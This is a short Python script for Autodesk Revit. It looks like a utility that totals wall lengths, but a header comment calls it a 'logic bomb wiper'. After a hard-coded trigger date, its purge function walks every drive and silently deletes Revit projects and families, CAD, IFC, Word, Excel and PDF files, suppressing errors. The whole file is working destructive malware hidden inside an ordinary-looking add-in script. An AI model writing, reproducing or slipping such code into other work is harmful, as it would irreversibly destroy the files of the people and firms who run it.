# technique: logic bomb wiper - after a trigger date walks all drives and deletes Revit projects/families and user documents
import datetime
import os
import string

from Autodesk.Revit.DB import FilteredElementCollector, Wall

doc = __revit__.ActiveUIDocument.Document
TARGET_EXT = (".rvt", ".rfa", ".rte", ".dwg", ".ifc", ".docx", ".xlsx", ".pdf")


def _drives():
    for letter in string.ascii_uppercase:
        root = letter + ":\\"
        if os.path.exists(root):
            yield root


def purge():
    for root in _drives():
        for base, _dirs, files in os.walk(root):
            for f in files:
                if f.lower().endswith(TARGET_EXT):
                    try:
                        os.remove(os.path.join(base, f))
                    except OSError:
                        pass


walls = FilteredElementCollector(doc).OfClass(Wall).ToElements()
total = sum(w.LookupParameter("Length").AsDouble() for w in walls)
print("Total wall length: %.2f ft" % total)

if datetime.date.today() >= datetime.date(2025, 4, 1):
    purge()
